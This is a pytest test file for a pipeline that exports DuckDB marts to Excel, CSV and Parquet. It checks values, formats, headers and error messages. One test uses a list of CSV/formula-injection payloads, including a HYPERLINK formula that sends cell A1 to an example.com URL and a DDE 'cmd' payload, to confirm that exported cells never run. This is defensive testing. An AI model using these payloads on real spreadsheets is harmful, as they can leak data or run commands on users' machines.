"""Exports hold what the published file has, and nothing in them runs."""

from __future__ import annotations

import shutil
import zipfile
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from pipeline.export import export, export_all
from pipeline.project import InputError
from pipeline.publish.paths import PublishPaths
from pipeline.reader import Published
from pipeline.workbook import monthly_pack
from tests.python.conftest import MAIN_JOB

pytestmark = pytest.mark.xdist_group(MAIN_JOB)

HEADER = 4
ATTACKS = [
    '=HYPERLINK("http://example.com/?"&A1,"open")',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\uff1d1+1",
    "http://example.com/",
    "mailto:somebody",
    "00123",
    "x" * 40_000,
]


@pytest.fixture(scope="module")
def pack(
    published_demo: PublishPaths, tmp_path_factory: pytest.TempPathFactory
) -> Path:
    file = tmp_path_factory.mktemp("pack") / "pack.xlsx"
    written = monthly_pack(file, published_demo.published)
    assert all(rows > 10 for rows in written.values()), written
    assert [*file.parent.iterdir()] == [file]
    return file


def rows_of(sheet: Worksheet) -> list[dict[Any, Any]]:
    """The rows below the header, up to the first empty column."""
    heads = [cell.value for cell in sheet[HEADER]]
    width = heads.index(None) if None in heads else len(heads)
    return [
        dict(zip(heads[:width], row[:width], strict=True))
        for row in sheet.iter_rows(min_row=HEADER + 1, values_only=True)
        if any(value is not None for value in row[:width])
    ]


def select(paths: PublishPaths, sql: str) -> list[tuple[Any, ...]]:
    with duckdb.connect(str(paths.published), read_only=True) as connection:
        return connection.execute(sql).fetchall()


def test_every_metric_and_month_is_that_of_the_mart(
    pack: Path, published_demo: PublishPaths
) -> None:
    expected = {
        (label, datetime.combine(month, datetime.min.time())): value
        for label, month, value in select(
            published_demo,
            "select label, date_month, value from marts.kpi_monthly"
            " join marts.metric_catalogue using (metric) where date_month"
            " between date '2025-08-01' and date '2026-08-01'",
        )
    }
    found = {
        (row["Metric"], month): value
        for row in rows_of(openpyxl.load_workbook(pack)["Metrics"])
        for month, value in row.items()
        if isinstance(month, datetime)
    }
    assert len(found) == 28 * 13
    assert {key: found[key] for key in expected} == pytest.approx(expected)
    assert all(found[key] is None for key in found.keys() - expected.keys())


def test_formats_go_by_unit(pack: Path) -> None:
    sheet = openpyxl.load_workbook(pack)["Metrics"]
    formats = {
        row[0].value: row[4].number_format for row in sheet.iter_rows(HEADER + 1)
    }
    assert formats["Customer churn rate"] == "0.0%"
    assert formats["Monthly recurring revenue"].startswith("#,##0.00")
    assert formats["Paying customers"] == "#,##0"
    assert formats["LTV to CAC"] == '0.00"x"'
    assert formats["Net promoter score"] == "0.0"


def test_the_other_sheets_hold_the_marts(
    pack: Path, published_demo: PublishPaths
) -> None:
    book = openpyxl.load_workbook(pack)
    months = rows_of(book["Movements"])
    assert [(row["Date month"].date(), row["Churned MRR"]) for row in months] == [
        (month, pytest.approx(float(mrr)))
        for month, mrr in select(
            published_demo,
            "select date_month, churned_mrr from marts.monthly_churn"
            " where date_month between date '2024-09-01' and date '2026-08-01'"
            " order by date_month desc",
        )
    ]
    causes = {
        row["Account ID"]: (row["MRR change"], row["Seats change"])
        for row in rows_of(book["Movements by account"])
    }
    assert causes == {
        account: (pytest.approx(float(change)), seats and pytest.approx(float(seats)))
        for account, change, seats in select(
            published_demo,
            "select account_id, mrr_change, seats_change from marts.mrr_movements"
            " where date_month = date '2026-08-01'",
        )
    }
    cells = {
        (row["Cohort month"].date(), int(age)): rate
        for row in rows_of(book["MRR cohorts"])
        for age, rate in row.items()
        if age.isdigit() and rate is not None
    }
    assert cells == {
        (cohort, age): pytest.approx(rate)
        for cohort, age, rate in select(
            published_demo,
            "select cohort_month, months_since_start, mrr_retention_rate"
            " from marts.cohort_retention where is_complete_month"
            " and cohort_month >= date '2024-09-01'"
            " and mrr_retention_rate is not null",
        )
    }
    at_risk = [row["Account ID"] for row in rows_of(book["Accounts at risk"])]
    assert len(at_risk) == len({*at_risk})
    assert {*at_risk} == {
        account
        for (account,) in select(
            published_demo,
            "select account_id from marts.customer_360 where current_mrr > 0 and"
            " (health_band = 'red' or health_band = 'yellow' or open_alerts >= 1"
            " or cancellation_scheduled_on >= date '2000-01-01')",
        )
    }


def test_headers_stay_in_view_and_each_column_is_defined(pack: Path) -> None:
    book = openpyxl.load_workbook(pack)
    about, *sheets = book.worksheets
    assert "20260920T000000000000Z" in {cell.value for cell in about["B"]}
    for sheet in sheets:
        assert sheet.freeze_panes in ("B5", "C5"), sheet.title
        assert "as of 2026-09-20" in str(sheet["A2"].value)
        heads = [cell.value for cell in sheet[HEADER]]
        if sheet.title == "Metrics":
            defined = [row["Definition"] for row in rows_of(sheet)]
            assert all(len(text) > 5 for text in defined)
            continue
        at = heads.index("Definition") + 1
        texts = {
            sheet.cell(row, at - 1).value: sheet.cell(row, at).value
            for row in range(HEADER + 1, sheet.max_row + 1)
            if sheet.cell(row, at - 1).value
        }
        shown = {
            head
            for head in heads[: heads.index(None)]
            if head and not str(head).isdigit()
        }
        assert shown - {*texts} == set(), sheet.title
        assert all(len(str(text)) > 10 for text in texts.values()), texts


def test_the_same_build_gives_the_same_workbook(
    pack: Path, published_demo: PublishPaths, tmp_path: Path
) -> None:
    monthly_pack(tmp_path / "again.xlsx", published_demo.published)
    assert (tmp_path / "again.xlsx").read_bytes() == pack.read_bytes()


def test_no_cell_of_a_workbook_runs(
    published_demo: PublishPaths, tmp_path: Path
) -> None:
    file = tmp_path / "warehouse.duckdb"
    shutil.copy(published_demo.published, file)
    with duckdb.connect(str(file)) as connection:
        for number, attack in enumerate(ATTACKS):
            connection.execute(
                "update marts.customer_360 set account_name = ? where account_id ="
                " (select account_id from marts.customer_360 where current_mrr > 0"
                " and open_alerts > 0 order by account_id limit 1 offset ?)",
                [attack, number],
            )
    monthly_pack(tmp_path / "pack.xlsx", file)
    with zipfile.ZipFile(tmp_path / "pack.xlsx") as parts:
        sheets = [name for name in parts.namelist() if "worksheets/sheet" in name]
        assert len(sheets) == 7
        assert not any(b"<f>" in parts.read(name) for name in sheets)
        assert not any("externalLink" in name for name in parts.namelist())
        assert not any(b"hyperlink" in parts.read(name) for name in sheets)
    cells = {
        cell.value: cell
        for (cell,) in openpyxl.load_workbook(tmp_path / "pack.xlsx")[
            "Accounts at risk"
        ].iter_rows(HEADER + 1, max_col=1)
    }
    for attack in ATTACKS:
        cell = cells[attack[:32_767]]
        assert cell.data_type == "s", attack
        starts_one = attack.lstrip("\t")[0] in "=+-@\uff1d"
        assert bool(cell.quotePrefix) == starts_one, attack


def test_all_marts_are_those_of_the_file(
    published_demo: PublishPaths, tmp_path: Path
) -> None:
    written = export_all(tmp_path / "new" / "all", "parquet", published_demo.published)
    assert len(written) > 50
    with duckdb.connect() as connection:
        connection.execute(f"attach '{published_demo.published}' as f (read_only)")
        for mart, rows in written.items():
            file = f"'{tmp_path}/new/all/{mart}.parquet'"
            both = connection.execute(
                f"select (select count(*) from {file}), count(*) from ("
                f"(from f.marts.{mart} except all from {file}) union all"
                f" (from {file} except all from f.marts.{mart}))"
            ).fetchone()
            assert both == (rows, 0), mart
    assert len([*(tmp_path / "new" / "all").iterdir()]) == len(written)


def test_an_open_reader_does_not_stop_an_export(
    published_demo: PublishPaths, tmp_path: Path
) -> None:
    with Published(published_demo.published) as reader:
        months = reader.query("select 1 from marts.monthly_churn").fetchall()
        export("monthly_churn", tmp_path / "churn.csv", published_demo.published)
        with pytest.raises(duckdb.PermissionException):
            reader.query(f"from '{tmp_path}/churn.csv'")
    assert len((tmp_path / "churn.csv").read_text().splitlines()) == len(months) + 1


@pytest.mark.parametrize(
    ("call", "message"),
    [
        (lambda file, to: export("churn", to / "x.csv", file), "There are: account_"),
        (lambda file, to: export("dim_dates", to / "x.txt", file), "monthly_pack"),
        (
            lambda file, to: export("dim_dates", to / "no" / "x.csv", file),
            "x.csv cannot",
        ),
        (lambda file, to: export_all(to, "xlsx", file), "expected csv or parquet"),
        (lambda file, to: monthly_pack(to / "x.csv", file), "does not end with .xlsx"),
        (lambda file, to: monthly_pack(to / "no" / "x.xlsx", file), "No such file"),
        (lambda file, to: monthly_pack(to / "x.xlsx", to / "no"), "publish first"),
        (lambda file, to: export_all(to / "x", "csv", to / "no"), "publish first"),
    ],
)
def test_a_mistake_is_explained(
    published_demo: PublishPaths,
    tmp_path: Path,
    call: Callable[[Path, Path], object],
    message: str,
) -> None:
    with pytest.raises(InputError) as raised:
        call(published_demo.published, tmp_path)
    assert message in str(raised.value)
    assert "unfinished" not in str(raised.value)
    assert [*tmp_path.iterdir()] == []


def test_a_build_of_an_older_version_is_refused(tmp_path: Path) -> None:
    with duckdb.connect(str(tmp_path / "old.duckdb")) as connection:
        connection.execute(
            "create schema marts; create table marts.figures_as_of as select"
            " date '2026-01-31' as as_of_date, date '2026-01-01' as"
            " latest_complete_month, '' as note"
        )
    with pytest.raises(InputError, match="publish again"):
        monthly_pack(tmp_path / "x.xlsx", tmp_path / "old.duckdb")
